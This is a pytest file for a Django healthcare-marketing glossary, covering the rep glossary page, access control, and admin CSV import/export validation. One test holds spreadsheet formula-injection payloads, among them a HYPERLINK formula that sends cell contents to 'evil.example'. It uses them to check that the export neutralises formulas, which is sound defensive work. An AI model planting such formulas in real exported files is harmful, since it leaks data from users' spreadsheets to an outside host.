"""The rep glossary page and the admin import/export views."""

import datetime

from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone

import pytest

from glossary.models import GlossaryTerm
from tests.glossary.factories import GlossaryTermFactory

HEADER = "service_line,preferred,variants,kind,definition,plain_language,case_sensitive,notes\n"


@pytest.fixture
def library(home_page):
    from assets.services import ensure_library

    return ensure_library(home=home_page)


@pytest.fixture
def rep_client(client, rep):
    client.force_login(rep)
    return client


def glossary_url(library, slug):
    return f"{library.url}glossary/{slug}/"


# The rep glossary page


def test_a_rep_reads_the_approved_glossary_of_a_service_line(
    rep_client, library, cardiology, orthopedics, rehab_term, prior_auth_term
):
    GlossaryTermFactory(
        service_line=cardiology, preferred="TAVR", kind="acronym", variants="TAVI", approved=True
    )
    GlossaryTermFactory(service_line=cardiology, preferred="Draft term", variants="draft words")
    GlossaryTermFactory(
        service_line=orthopedics, preferred="Joint Replacement Program", approved=True
    )
    GlossaryTermFactory(
        service_line=cardiology,
        preferred="Expired term",
        approved=True,
        approved__review_by=timezone.localdate() - datetime.timedelta(days=1),
    )
    response = rep_client.get(glossary_url(library, "cardiology"))
    assert response.status_code == 200
    html = response.content.decode()
    assert "<h1>Cardiology glossary</h1>" in html
    for text in (
        "Cardiac Rehabilitation Program",
        "What it means for patients.",  # plain language
        "What the term means.",  # definition
        "<li>cardiac rehab</li>",  # don't say
        "<li>heart rehab</li>",
        "TAVR",
        "prior authorization",  # global terms apply everywhere
        rehab_term.approval_label,
    ):
        assert text in html
    for text in ("Draft term", "Joint Replacement Program", "Expired term"):
        assert text not in html
    assert html.index("Program names") < html.index("Acronyms") < html.index("Across all")
    assert f'href="{glossary_url(library, "orthopedics")}"' in html
    assert "private" in response["Cache-Control"]


def test_an_unknown_service_line_is_a_friendly_404(rep_client, library, cardiology, rehab_term):
    response = rep_client.get(glossary_url(library, "podiatry"))
    assert response.status_code == 404
    html = response.content.decode()
    assert "There is no service line called “podiatry”." in html
    assert f'href="{glossary_url(library, "cardiology")}"' in html


def test_a_service_line_without_approved_terms(rep_client, library, orthopedics):
    response = rep_client.get(glossary_url(library, "orthopedics"))
    assert response.status_code == 200
    assert "There are no approved terms for Orthopedics yet." in response.content.decode()


def test_anonymous_visitors_are_sent_to_sign_in(client, library, cardiology):
    response = client.get(glossary_url(library, "cardiology"))
    assert response.status_code == 302
    assert "/accounts/login/" in response["Location"]


# Admin import and export


@pytest.fixture
def marketer_client(client, marketer):
    client.force_login(marketer)
    return client


def upload(text, name="glossary.csv"):
    return SimpleUploadedFile(name, text.encode("utf-8"), content_type="text/csv")


def test_the_import_page_imports_drafts(marketer_client, cardiology):
    url = reverse("glossary_admin:import")
    assert marketer_client.get(url).status_code == 200
    response = marketer_client.post(
        url, {"file": upload(HEADER + "cardiology,TAVR,TAVI,acronym,,,true,\n")}
    )
    assert response.status_code == 302
    term = GlossaryTerm.objects.get()
    assert (term.preferred, term.live, term.case_sensitive) == ("TAVR", False, True)


def test_the_import_page_lists_every_error_and_imports_nothing(marketer_client, cardiology):
    text = HEADER + "cardiology,TAVR,TAVI,acronym,,,true,\n" + "cardiology,,x,acronym,,,,\n"
    response = marketer_client.post(reverse("glossary_admin:import"), {"file": upload(text)})
    assert response.status_code == 400
    html = response.content.decode()
    assert "Nothing was imported." in html and "line 3: “preferred” is empty" in html
    assert not GlossaryTerm.objects.exists()


def test_the_import_page_reports_format_and_database_problems_together(
    marketer_client, cardiology, prior_auth_term
):
    """An unknown service line or a conflict with an approved term used to escape the
    view as a 500; now every problem of the file is listed, with its line."""
    text = HEADER + (
        "cardiology,TAVR,TAVI,acronym,,,true,\n"  # line 2: fine
        "nowhere,Spine Care Pathway,spine program,program_name,,,,\n"  # 3: unknown line
        "cardiology,Prior auth desk,prior auth team,program_name,,,,\n"  # 4: conflict
        "cardiology,Heart clinic,,not-a-kind,,,,\n"  # 5: format
        "cardiology,Echo lab,,clinical_term,,,maybe,\n"  # 6: format
    )
    response = marketer_client.post(reverse("glossary_admin:import"), {"file": upload(text)})
    assert response.status_code == 400
    html = response.content.decode()
    assert "Nothing was imported." in html
    assert "line 3: unknown service line “nowhere” (known: cardiology)" in html
    assert "line 4: “Prior auth desk” contains “Prior auth”, a disallowed variant of" in html
    assert "line 5: unknown kind “not-a-kind”" in html
    assert "line 6: case_sensitive must be true or false, not “maybe”" in html
    positions = [html.index(f"line {number}:") for number in (3, 4, 5, 6)]
    assert positions == sorted(positions)  # in file order
    assert not GlossaryTerm.objects.exclude(pk=prior_auth_term.pk).exists()


@pytest.mark.parametrize(
    "row, message",
    [
        ("nowhere,Spine Care Pathway,,program_name,,,,\n", "unknown service line “nowhere”"),
        (",Prior auth desk,prior auth team,program_name,,,,\n", "a disallowed variant of"),
    ],
    ids=["unknown-service-line", "conflict-with-an-approved-term"],
)
def test_a_database_level_problem_alone_is_a_message_not_a_500(
    marketer_client, cardiology, prior_auth_term, row, message
):
    response = marketer_client.post(
        reverse("glossary_admin:import"), {"file": upload(HEADER + row)}
    )
    assert response.status_code == 400
    assert "line 2: " in response.content.decode() and message in response.content.decode()
    assert GlossaryTerm.objects.count() == 1


def test_the_export_neutralises_formulas_and_the_import_takes_them_back(
    marketer_client, cardiology
):
    formulas = {
        '=HYPERLINK("https://evil.example/?"&A1)': "program_name",
        "+1+cmd": "acronym",
        "-2+3": "acronym",
        "@SUM(1+1)": "acronym",
        "＝1+1": "acronym",
        "＋1": "acronym",
        "－1": "acronym",
        "＠SUM(A1)": "acronym",
        "'=already quoted": "acronym",
    }
    for preferred, kind in formulas.items():
        GlossaryTermFactory(
            service_line=cardiology, preferred=preferred, kind=kind, definition="=1+1"
        )
    response = marketer_client.get(reverse("glossary_admin:export"))
    lines = response.content.decode().splitlines()[1:]
    import csv

    for cells in csv.reader(lines):
        for cell in cells[1:2] + cells[4:5]:  # preferred, definition
            assert cell.startswith("'"), cell
    # The round trip holds: the file imports back as the same terms, unchanged.
    exported = response.content.decode()
    again = marketer_client.post(reverse("glossary_admin:import"), {"file": upload(exported)})
    assert again.status_code == 302, again.content.decode()[:2000]
    assert set(GlossaryTerm.objects.values_list("preferred", flat=True)) == set(formulas)
    assert set(GlossaryTerm.objects.values_list("definition", flat=True)) == {"=1+1"}
    assert all(term.revisions.count() <= 1 for term in GlossaryTerm.objects.all())


def test_a_nul_byte_in_the_export_filter_is_a_400(marketer_client, cardiology):
    response = marketer_client.get(reverse("glossary_admin:export"), {"service_line": "card\x00"})
    assert response.status_code == 400


def test_the_import_page_refuses_a_file_that_is_not_text(marketer_client, cardiology):
    response = marketer_client.post(
        reverse("glossary_admin:import"),
        {"file": SimpleUploadedFile("x.csv", b"\xff\xfe\x00garbage")},
    )
    assert response.status_code == 200
    assert "not UTF-8" in response.content.decode()
    assert not GlossaryTerm.objects.exists()


def test_reviewers_cannot_import(client, reviewer):
    client.force_login(reviewer)
    assert client.get(reverse("glossary_admin:import")).status_code in (302, 403)


def test_the_export_view_gives_the_import_format(marketer_client, cardiology, rehab_term):
    response = marketer_client.get(reverse("glossary_admin:export"), {"service_line": "cardiology"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response.content.decode().splitlines() == [
        HEADER.strip() + ",match_case,exceptions,enforce_capitalisation",
        "cardiology,Cardiac Rehabilitation Program,cardiac rehab|heart rehab,program_name,"
        "What the term means.,What it means for patients.,false,,,,false",
    ]


@pytest.mark.parametrize("params", [{"service_line": "nope"}, {"version": "everything"}])
def test_the_export_view_rejects_bad_parameters(marketer_client, params):
    assert marketer_client.get(reverse("glossary_admin:export"), params).status_code == 400


def test_the_term_listing_links_import_and_export(marketer_client, rehab_term):
    html = marketer_client.get(
        reverse("wagtailsnippets_glossary_glossaryterm:list")
    ).content.decode()
    assert reverse("glossary_admin:import") in html
    assert reverse("glossary_admin:export") in html


def test_the_term_listing_exports_a_report(marketer_client, rehab_term):
    url = reverse("wagtailsnippets_glossary_glossaryterm:list")
    response = marketer_client.get(url, {"export": "csv"})
    body = b"".join(response.streaming_content).decode()
    header, row = body.splitlines()[:2]
    assert header.startswith("Preferred term,Service line,Kind,Don't say")
    assert row.startswith("Cardiac Rehabilitation Program,Cardiology,Program name,")
    assert rehab_term.approval_label in row
